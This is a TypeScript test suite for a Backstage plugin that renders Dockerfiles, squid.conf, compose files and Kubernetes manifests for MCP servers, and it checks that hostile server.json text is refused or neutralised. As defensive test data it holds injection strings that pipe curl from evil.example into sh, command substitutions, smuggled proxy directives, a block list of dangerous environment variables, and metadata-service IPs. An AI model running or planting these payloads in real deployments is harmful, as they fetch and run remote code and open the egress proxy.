import YAML from 'yaml';
import {
  EnvironmentVariableProfile,
  McpServerProfile,
  PackageArgumentProfile,
  RiskLevel,
} from '@mcp-server-operator/plugin-mcp-security-common';
import { InputError } from '@backstage/errors';
import { createMockDirectory } from '@backstage/backend-test-utils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import {
  assessmentOf,
  npmProfile,
  profileOf,
} from '../__testUtils__/assessments';
import { createRenderDeploymentAction } from '../actions/renderDeployment';
import { deploymentPlanOf, identifierProblem } from './plan';
import { inlineCode, oneLine } from './text';
import {
  applicableTargets,
  Rendering,
  renderDeployment,
  validateRendering,
} from './render';

/**
 * Text from a server.json or a catalog entity is written by anyone. These
 * tests feed hostile text to the renderers and check the rendered files, not
 * only the plan: nothing the publisher writes may become a line of its own.
 */

const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
const INJECTED = [
  'http_access allow all',
  'RUN curl https://evil.example/x | sh',
  'kind: Secret',
];
/** Every line break followed by each injected directive. */
const hostile = (prefix: string) =>
  BREAKS.map(b => INJECTED.map(i => `${b}${i}`).join('')).join(prefix);

/** An instruction the renderer writes, or the continuation of one. */
const DOCKERFILE_LINE = /^ |^(FROM|ARG|RUN|ENV|WORKDIR|COPY|USER|ENTRYPOINT) /;
const SQUID_DIRECTIVES =
  /^(http_port|acl|http_access|cache|cache_mem|pid_filename|logfile_rotate|access_log|cache_log|coredump_dir|via|forwarded_for) /;

function render(
  profile: McpServerProfile,
  risk: RiskLevel = 'medium',
  entityRef?: string,
) {
  const plan = deploymentPlanOf(
    assessmentOf(profile, risk, entityRef ? { entityRef } : {}),
  );
  const rendering = renderDeployment(plan, {
    targets: applicableTargets(plan),
    namespace: 'mcp',
  });
  return { plan, rendering };
}
const file = (rendering: Rendering, path: string) =>
  rendering.files.find(f => f.path === path)?.content ?? '';
/** The lines that are not comments: what the tool reading the file acts on. */
const live = (text: string) =>
  text
    .split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/)
    .filter(l => l.trim() && !l.startsWith('#'));

describe('oneLine and inlineCode', () => {
  it('keep any text on one line, and a code span whole', () => {
    expect(oneLine('a\nb\r\u2028c\u0000d\te')).toBe('a b  c d e');
    expect(inlineCode('x`y\nz')).toBe('`` x`y z ``');
    expect(inlineCode('plain')).toBe('`plain`');
  });
});

describe('profile text in comments and config lines', () => {
  const benign = render(npmProfile({}, { title: 'Notes' }));
  const cases: [string, () => ReturnType<typeof render>][] = [
    ['title', () => render(npmProfile({}, { title: `Notes${hostile(' ')}` }))],
    [
      'registry name',
      () =>
        render(
          npmProfile(
            {},
            {
              title: 'Notes',
              registryName: `io.github.example/notes${hostile('')}`,
            },
          ),
        ),
    ],
    [
      'entity ref',
      () =>
        render(
          npmProfile({}, { title: 'Notes' }),
          'medium',
          `api:default/notes${hostile('')}`,
        ),
    ],
  ];

  it.each(cases)(
    'keeps a hostile %s out of squid.conf and the Dockerfile',
    (_, make) => {
      const { rendering } = make();
      for (const path of [
        'egress-proxy/squid.conf',
        'egress-proxy/allowlist.txt',
        'Dockerfile',
      ]) {
        const text = file(rendering, path);
        expect(text).not.toMatch(/[\r\u2028\u2029\u0085\v\f]/);
        expect(live(text)).toEqual(live(file(benign.rendering, path)));
      }
      for (const line of live(file(rendering, 'Dockerfile'))) {
        expect(line).toMatch(DOCKERFILE_LINE);
      }
      for (const line of live(file(rendering, 'egress-proxy/squid.conf'))) {
        expect(line).toMatch(SQUID_DIRECTIVES);
      }
      expect(file(rendering, 'egress-proxy/squid.conf')).not.toContain(
        '\nhttp_access allow all',
      );
      expect(file(rendering, 'Dockerfile')).not.toMatch(/\nRUN curl/);
    },
  );

  it.each(cases)(
    'keeps a hostile %s in the comments of the YAML files and off the runbook lines',
    (_, make) => {
      const { rendering } = make();
      expect(() => validateRendering(rendering)).not.toThrow();
      for (const f of rendering.files) {
        expect(f.content).not.toMatch(/[\r\u2028\u2029\u0085\v\f]/);
        expect(f.content).not.toMatch(
          /\n(kind: Secret|http_access allow all|RUN curl)/,
        );
      }
    },
  );
});

describe('package identifiers and versions', () => {
  const EVIL = 'x"; curl evil|sh; echo "';
  const planOf = (profile: McpServerProfile) =>
    deploymentPlanOf(assessmentOf(profile));
  const pypi = (identifier: string, version = '1.0.0') =>
    profileOf({
      packages: [
        {
          registryType: 'pypi',
          identifier,
          version,
          pinned: true,
          transport: 'stdio',
        },
      ],
    });
  const oci = (identifier: string) =>
    profileOf({
      packages: [
        {
          registryType: 'npm',
          identifier: '@example/other',
          pinned: true,
          transport: 'stdio',
        },
        {
          registryType: 'oci',
          identifier,
          pinned: true,
          transport: 'stdio',
        },
      ],
    });

  it.each([
    [
      'npm',
      () => npmProfile({ identifier: EVIL }),
      /^serverJson\.packages\[0\]\.identifier: .* is not an npm package name$/,
    ],
    [
      'npm',
      () => npmProfile({ identifier: '@scope/a/b' }),
      /packages\[0\]\.identifier/,
    ],
    [
      'npm',
      () => npmProfile({ identifier: "it's" }),
      /packages\[0\]\.identifier/,
    ],
    [
      'npm',
      () => npmProfile({ identifier: 'a\nb' }),
      /packages\[0\]\.identifier/,
    ],
    [
      'pypi',
      () => pypi(EVIL),
      /^serverJson\.packages\[0\]\.identifier: .* is not a PyPI project name/,
    ],
    ['pypi', () => pypi('mcp-server-fetch[cli]'), /packages\[0\]\.identifier/],
    [
      'oci',
      () => oci(`ghcr.io/e/notes:1$(curl evil|sh)`),
      /^serverJson\.packages\[1\]\.identifier: .* is not an OCI image reference$/,
    ],
    [
      'oci',
      () => oci('ghcr.io/e/notes:1\nRUN id'),
      /packages\[1\]\.identifier/,
    ],
    ['oci', () => oci('${HOME}/x'), /packages\[1\]\.identifier/],
    [
      'npm version',
      () => npmProfile({ version: `1.0.0"; ${EVIL}` }),
      /^serverJson\.packages\[0\]\.version: .* is not a version or a version range$/,
    ],
    [
      'npm version',
      () => npmProfile({ version: '1.0\nRUN id' }),
      /packages\[0\]\.version/,
    ],
    [
      'pypi version',
      () => pypi('mcp-server-fetch', '$(id)'),
      /packages\[0\]\.version/,
    ],
  ])(
    'refuses a hostile %s with an InputError naming the field',
    (_, make, message) => {
      let error: any;
      try {
        planOf(make());
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(InputError);
      expect(error.message).toMatch(message);
      // The value is quoted on one line in the message.
      expect(error.message).not.toContain('\n');
    },
  );

  it.each([
    [
      'npm',
      () =>
        npmProfile({ identifier: '@modelcontextprotocol/server-filesystem' }),
    ],
    [
      'npm',
      () => npmProfile({ identifier: 'JSONStream', version: '^1.3 || 2.x' }),
    ],
    ['pypi', () => pypi('mcp_server.fetch-2', '>=1.0,!=1.3')],
    [
      'oci',
      () =>
        oci(`ghcr.io/github/github-mcp-server:0.1.0@sha256:${'a'.repeat(64)}`),
    ],
    ['oci', () => oci('localhost:5000/team/notes__x:v1.2-rc.1')],
    ['oci', () => oci('[::1]:5000/notes')],
  ])('accepts a real %s identifier', (_, make) => {
    expect(() => planOf(make())).not.toThrow();
  });

  it('answers quickly for a long hostile reference', () => {
    const started = Date.now();
    expect(() =>
      planOf(oci(`${'a.'.repeat(200)}a/${'b-'.repeat(100)}!`)),
    ).toThrow(InputError);
    expect(Date.now() - started).toBeLessThan(500);
  });

  it('passes the package name to the bin-linking script as an argument, never in its text', () => {
    const text = (identifier: string) =>
      file(render(npmProfile({ identifier })).rendering, 'Dockerfile');
    const script = (content: string) =>
      [...content.matchAll(/node -e '([^']*)'/g)].map(m => m[1]);
    const a = text('@example/notes');
    const b = text('other-server');
    expect(script(a)).toEqual(script(b));
    expect(script(a).join('')).not.toMatch(/notes|supergateway/);
    expect(a).toContain(
      `node -e '${script(a)[0]}' '@example/notes' '/app/server'`,
    );
    expect(a).toContain('"@example/notes@1.2.3"');
  });

  it('writes the exec form as JSON', () => {
    const dockerfile = file(
      render(pypi('mcp_server.fetch-2')).rendering,
      'Dockerfile',
    );
    const entrypoint = /^ENTRYPOINT (.*)$/m.exec(dockerfile)![1];
    expect(JSON.parse(entrypoint)).toEqual([
      '/opt/venv/bin/mcp_server.fetch-2',
    ]);
  });
});

describe('the render-deployment action', () => {
  it('refuses a hostile package identifier in a server.json with an InputError naming the field, and writes nothing', async () => {
    const workspace = createMockDirectory();
    const action = createRenderDeploymentAction({
      client: {
        getAssessment: jest.fn(),
        advise: jest.fn(async () =>
          assessmentOf(npmProfile({ identifier: 'x"; curl evil|sh; echo "' })),
        ),
      },
    });
    const error = await action
      .handler(
        createMockActionContext({
          input: { serverJson: { name: 'io.github.example/notes' } },
          workspacePath: workspace.path,
        }),
      )
      .catch(e => e);
    expect(error).toBeInstanceOf(InputError);
    expect(error.message).toMatch(/^serverJson\.packages\[0\]\.identifier: /);
    expect(workspace.content()).toEqual({});
  });
});

describe('arguments and settings from a server.json', () => {
  const arg = (
    over: Partial<PackageArgumentProfile>,
  ): PackageArgumentProfile => ({
    type: 'positional',
    isRequired: true,
    isRepeated: false,
    isSecret: false,
    ...over,
  });
  const env = (
    over: Partial<EnvironmentVariableProfile>,
  ): EnvironmentVariableProfile => ({
    name: 'NOTES_DIR',
    isSecret: false,
    isRequired: false,
    ...over,
  });
  const withArgs = (...args: PackageArgumentProfile[]) =>
    npmProfile({ arguments: args });
  const withEnv = (...variables: EnvironmentVariableProfile[]) =>
    npmProfile({ environmentVariables: variables });
  const refusal = (profile: McpServerProfile) => {
    try {
      render(profile);
    } catch (e) {
      return e as Error;
    }
    return undefined;
  };

  it.each([
    [
      withArgs(arg({ value: 'a\nRUN id' })),
      /^serverJson\.packages\[0\]\.packageArguments\[0\]\.value: "a\\nRUN id" has a line break/,
    ],
    [
      withArgs(
        arg({ value: 'ok' }),
        arg({ default: 'x\u2028http_access allow all', isRequired: false }),
      ),
      /packageArguments\[1\]\.default: /,
    ],
    [
      withArgs(arg({ type: 'named', name: '--dir\rRUN id', value: 'x' })),
      /packageArguments\[0\]\.name: /,
    ],
    [
      withArgs(arg({ valueHint: 'dir\n', format: 'filepath' })),
      /packageArguments\[0\]\.valueHint: /,
    ],
    [
      withArgs(
        arg({ valueHint: 'root', format: 'filepath', default: '/\nRUN id' }),
      ),
      /packageArguments\[0\]\.default: /,
    ],
  ])(
    'refuses an argument with a line break, naming it (%#)',
    (profile, message) => {
      const error = refusal(profile);
      expect(error).toBeInstanceOf(InputError);
      expect(error!.message).toMatch(message);
    },
  );

  it('keeps an argument with quotes and $ to one word on one comment line', () => {
    const { rendering } = render(withArgs(arg({ value: `it's $(id) "x"` })));
    const dockerfile = file(rendering, 'Dockerfile');
    expect(dockerfile).toContain(
      `# compose.yaml and the manifests start it with the server.json's arguments: 'it'\\''s $(id) "x"'\n`,
    );
    expect(live(dockerfile)).toEqual(
      live(file(render(npmProfile()).rendering, 'Dockerfile')),
    );
    expect(file(rendering, 'compose.yaml')).toContain(`- it's $$(id) "x"`);
  });

  it.each([
    [
      'HTTPS_PROXY',
      /"HTTPS_PROXY" may not be set by a server\.json: the rendering sets it to send traffic through the egress proxy/,
    ],
    ['https_proxy', /"https_proxy" may not be set/],
    ['No_Proxy', /"No_Proxy" may not be set/],
    ['ALL_PROXY', /may not be set/],
    ['NODE_USE_ENV_PROXY', /may not be set/],
    ['PATH', /it changes which programs run/],
    ['NODE_OPTIONS', /it changes what code the runtime loads/],
    ['LD_PRELOAD', /it changes what code the runtime loads/],
    ['PYTHONPATH', /it changes what code the runtime loads/],
    ['PYTHONSTARTUP', /it changes what code the runtime loads/],
    ['NODE_TLS_REJECT_UNAUTHORIZED', /certificates/],
    ['A}B', /"A}B" is not a variable name/],
    ['1ST', /is not a variable name/],
    ['A-B', /is not a variable name/],
    ['A\nB', /is not a variable name/],
    ['', /is not a variable name/],
  ])('refuses the environment variable %j, naming it', (name, message) => {
    const error = refusal(
      withEnv(env({ name, default: 'http://evil.example:1' })),
    );
    expect(error).toBeInstanceOf(InputError);
    expect(error!.message).toMatch(
      /^serverJson\.packages\[0\]\.environmentVariables: /,
    );
    expect(error!.message).toMatch(message);
  });

  it('refuses a default compose could not interpolate, or one with a line break, and a name declared twice', () => {
    expect(refusal(withEnv(env({ default: 'a}b' })))?.message).toMatch(
      /"NOTES_DIR" default "a}b" has a '}', which would end compose's \$\{NOTES_DIR:-…\} early/,
    );
    expect(refusal(withEnv(env({ default: 'a\nb' })))?.message).toMatch(
      /"NOTES_DIR" default: "a\\nb" has a line break/,
    );
    expect(
      refusal(withEnv(env({}), env({ isRequired: true })))?.message,
    ).toMatch(/"NOTES_DIR" is declared twice/);
  });

  it('escapes $ in defaults and labels, and keeps the proxy the way out', () => {
    const { rendering, plan } = render(
      withEnv(
        env({ default: '$HOME/$X' }),
        env({ name: 'https_proxy_host', default: 'x' }),
      ),
      'medium',
      'api:default/notes$x',
    );
    const compose = YAML.parse(file(rendering, 'compose.yaml'));
    const server = compose.services[plan.name];
    expect(server.environment.NOTES_DIR).toBe('${NOTES_DIR:-$$HOME/$$X}');
    expect(server.environment.HTTPS_PROXY).toBe('http://egress-proxy:3128');
    expect(server.environment.https_proxy).toBe('http://egress-proxy:3128');
    expect(server.labels['backstage.io/entity-ref']).toBe(
      'api:default/notes$$x',
    );
    expect(() => validateRendering(rendering)).not.toThrow();
  });

  it('never binds a host path the server.json gives: the operator must set it, the runbook shows the suggestion', () => {
    const { rendering, plan } = render(
      withArgs(
        arg({ valueHint: 'root', format: 'filepath', default: '/' }),
        arg({
          valueHint: 'sock}',
          format: 'filepath',
          value: '/var/run/docker.sock',
        }),
      ),
    );
    const text = file(rendering, 'compose.yaml');
    expect(text).not.toContain(':-/');
    expect(text).not.toContain('docker.sock');
    const server = YAML.parse(text).services[plan.name];
    expect(server.volumes.map((v: any) => v.source)).toEqual([
      '${MCP_MOUNT_ROOT:?set MCP_MOUNT_ROOT to the host path for root (see RUNBOOK.md)}',
      '${MCP_MOUNT_SOCK:?set MCP_MOUNT_SOCK to the host path for sock (see RUNBOOK.md)}',
    ]);
    expect(text).toMatch(/Set MCP_MOUNT_ROOT, MCP_MOUNT_SOCK in the shell/);
    const runbook = file(rendering, 'RUNBOOK.md');
    expect(runbook).toContain(
      'compose binds the host path in `MCP_MOUNT_ROOT`, which you must set (the server.json suggests `/`: check what it is before you use it',
    );
    expect(runbook).toContain('suggests `/var/run/docker.sock`');
    expect(runbook).toMatch(
      /set `MCP_MOUNT_ROOT`, `MCP_MOUNT_SOCK`: compose refuses to start/,
    );
  });

  it('gives two paths with the same hint their own volume, folder and variable', () => {
    const dir = arg({ valueHint: 'dir', format: 'filepath' });
    const { rendering, plan } = render(
      withArgs(
        dir,
        dir,
        arg({ valueHint: 'data', format: 'filepath' }),
        arg({ valueHint: 'DIR_1', format: 'filepath' }),
      ),
    );
    expect(
      plan.launch.mounts.map(m => [m.volume, m.containerPath, m.hostVariable]),
    ).toEqual([
      ['dir', '/data/dir', 'MCP_MOUNT_DIR'],
      ['dir-1', '/data/dir_1', 'MCP_MOUNT_DIR_1'],
      ['data-2', '/data/data_2', 'MCP_MOUNT_DATA_2'],
      ['dir-1-3', '/data/dir_1_3', 'MCP_MOUNT_DIR_1_3'],
    ]);
    const compose = YAML.parse(file(rendering, 'compose.yaml'));
    expect(compose.services[plan.name].command).toEqual([
      '/data/dir',
      '/data/dir_1',
      '/data/data_2',
      '/data/dir_1_3',
    ]);
    const pod = rendering.kubernetes.find(
      o => o.kind === 'Deployment' && o.metadata.name === plan.name,
    ) as any;
    const volumes = pod.spec.template.spec.volumes.map((v: any) => v.name);
    expect(new Set(volumes).size).toBe(volumes.length);
    expect(() => validateRendering(rendering)).not.toThrow();
  });

  it('refuses a rendering where two volumes share a name or a path', () => {
    const { rendering, plan } = render(
      withArgs(
        arg({ valueHint: 'a', format: 'filepath' }),
        arg({ valueHint: 'b', format: 'filepath' }),
      ),
    );
    const pod = (
      rendering.kubernetes.find(
        o => o.kind === 'Deployment' && o.metadata.name === plan.name,
      ) as any
    ).spec.template.spec;
    pod.volumes[pod.volumes.length - 1].name =
      pod.volumes[pod.volumes.length - 2].name;
    pod.containers[0].volumeMounts[1].mountPath =
      pod.containers[0].volumeMounts[2].mountPath;
    const service = (rendering.compose as any).services[plan.name];
    service.volumes[1].target = service.volumes[0].target;
    let error: any;
    try {
      validateRendering(rendering);
    } catch (e) {
      error = e;
    }
    expect(error?.problems).toEqual(
      expect.arrayContaining([
        `compose.yaml: service ${plan.name} mounts two volumes at /data/a`,
        `kubernetes/: Deployment ${plan.name} has two volumes named a`,
        expect.stringMatching(
          new RegExp(
            `^kubernetes/: Deployment ${plan.name}: container \\S+ mounts two volumes at `,
          ),
        ),
      ]),
    );
  });

  it('passes no positional argument after an optional one left out, and lists them in the runbook', () => {
    const { rendering, plan } = render(
      withArgs(
        arg({ value: 'first' }),
        arg({ valueHint: 'optional_root', isRequired: false }),
        arg({ valueHint: 'port', value: '8080' }),
        arg({ type: 'named', name: '--verbose', value: 'yes' }),
        arg({ valueHint: 'folder', format: 'filepath' }),
      ),
    );
    expect(plan.launch.args).toEqual([
      { literal: 'first' },
      { literal: '--verbose' },
      { literal: 'yes' },
    ]);
    expect(plan.launch.mounts).toEqual([]);
    const compose = YAML.parse(file(rendering, 'compose.yaml'));
    expect(compose.services[plan.name].command).toEqual([
      'first',
      '--verbose',
      'yes',
    ]);
    expect(file(rendering, 'RUNBOOK.md')).toContain(
      '- **Positional arguments not passed**: `port`, `folder` come after `optional_root`, an optional positional argument that is left out',
    );
  });
});

describe('the image built from the Dockerfile', () => {
  it('has a name no public registry serves, and compose builds it rather than pulling it', () => {
    // An npm package named like a Docker Hub image, at a version with build metadata.
    const { rendering, plan } = render(
      npmProfile({ identifier: 'nginx', version: '1.2.3+build.7' }),
    );
    expect(plan.run).toMatchObject({
      kind: 'npm',
      image: 'localhost/mcp-servers/notes:1.2.3_build.7',
    });
    expect(identifierProblem('oci', (plan.run as any).image)).toBeUndefined();
    const compose = YAML.parse(file(rendering, 'compose.yaml'));
    expect(compose.services[plan.name]).toMatchObject({
      image: 'localhost/mcp-servers/notes:1.2.3_build.7',
      build: { context: '.', dockerfile: 'Dockerfile' },
      pull_policy: 'build',
    });
    const deployment = rendering.kubernetes.find(
      o => o.kind === 'Deployment' && o.metadata.name === plan.name,
    ) as any;
    expect(deployment.spec.template.spec.containers[0].image).toBe(
      'localhost/mcp-servers/notes:1.2.3_build.7',
    );
    expect(file(rendering, 'RUNBOOK.md')).toContain(
      'docker build -t localhost/mcp-servers/notes:1.2.3_build.7 .',
    );
    // No file names the image without its registry host.
    for (const f of rendering.files) {
      expect(f.content).not.toMatch(/(^|[^/])mcp-servers\/notes:/m);
    }
    expect(() => validateRendering(rendering)).not.toThrow();
  });

  it("leaves a publisher's image to be pulled", () => {
    const { rendering, plan } = render(
      profileOf({
        name: 'io.github.example/notes',
        packages: [
          {
            registryType: 'oci',
            identifier: `ghcr.io/e/notes@sha256:${'a'.repeat(64)}`,
            pinned: true,
            transport: 'streamable-http',
          },
        ],
      }),
    );
    const server = YAML.parse(file(rendering, 'compose.yaml')).services[
      plan.name
    ];
    expect(server.build).toBeUndefined();
    expect(server.pull_policy).toBeUndefined();
  });
});

describe('egress hosts', () => {
  const remote = (url: string) => ({
    type: 'streamable-http',
    url,
    authHeader: false,
  });

  it.each([
    '169.254.169.254',
    '127.1',
    '0x7f.0.0.1',
    '10.0.0.0/8',
    '::1',
    '[fd00::1]',
    'fe80::1/10',
    '2130706433',
  ])('leaves out the IP literal %s, and says why', entry => {
    const { plan, rendering } = render(
      npmProfile({}, { egressAllowlist: [entry, 'api.example.com'] }),
    );
    expect(plan.egressHosts).toEqual(['api.example.com']);
    expect(plan.rejectedEgress).toEqual([
      `${entry} (an IP address: the proxy allows host names only)`,
    ]);
    expect(live(file(rendering, 'egress-proxy/allowlist.txt'))).toEqual([
      'api.example.com',
    ]);
    expect(file(rendering, 'RUNBOOK.md')).toContain(`\`${entry} (`);
  });

  it("allows a remote's host only for a server reached as that remote", () => {
    const remotes = [
      remote('https://mcp.example.com/mcp'),
      remote('http://169.254.169.254/latest/meta-data'),
      remote('https://[::1]:8443/mcp'),
    ];
    const packaged = render(npmProfile({}, { remotes }));
    expect(packaged.plan.egressHosts).toEqual([]);
    expect(
      live(file(packaged.rendering, 'egress-proxy/allowlist.txt')),
    ).toEqual([]);

    const remoteOnly = render(profileOf({ remotes }));
    expect(remoteOnly.plan.run.kind).toBe('remote');
    expect(remoteOnly.plan.egressHosts).toEqual(['mcp.example.com']);
    expect(remoteOnly.plan.rejectedEgress).toEqual([
      'http://169.254.169.254/latest/meta-data (an IP address: the proxy allows host names only)',
      'https://[::1]:8443/mcp (an IP address: the proxy allows host names only)',
    ]);
    expect(
      live(file(remoteOnly.rendering, 'egress-proxy/allowlist.txt')),
    ).toEqual(['mcp.example.com']);
  });
});

describe('the way out through the proxy', () => {
  it('has Node.js use the proxy for fetch(), from a release that can', () => {
    const { rendering, plan } = render(npmProfile());
    const dockerfile = file(rendering, 'Dockerfile');
    // 22.21.0 is the first 22.x release with NODE_USE_ENV_PROXY.
    const [, minor, patch] = /^FROM node:22\.(\d+)\.(\d+)-bookworm-slim$/m
      .exec(dockerfile)!
      .map(Number);
    expect(minor * 1000 + patch).toBeGreaterThanOrEqual(21_000);
    expect(dockerfile).toMatch(/^ENV .*\bNODE_USE_ENV_PROXY=1\b/m);
    const compose = YAML.parse(file(rendering, 'compose.yaml'));
    expect(compose.services[plan.name].environment).toMatchObject({
      NODE_USE_ENV_PROXY: '1',
      HTTPS_PROXY: 'http://egress-proxy:3128',
    });
    const deployment = rendering.kubernetes.find(
      o => o.kind === 'Deployment' && o.metadata.name === plan.name,
    ) as any;
    expect(deployment.spec.template.spec.containers[0].env).toContainEqual({
      name: 'NODE_USE_ENV_PROXY',
      value: '1',
    });
  });
});
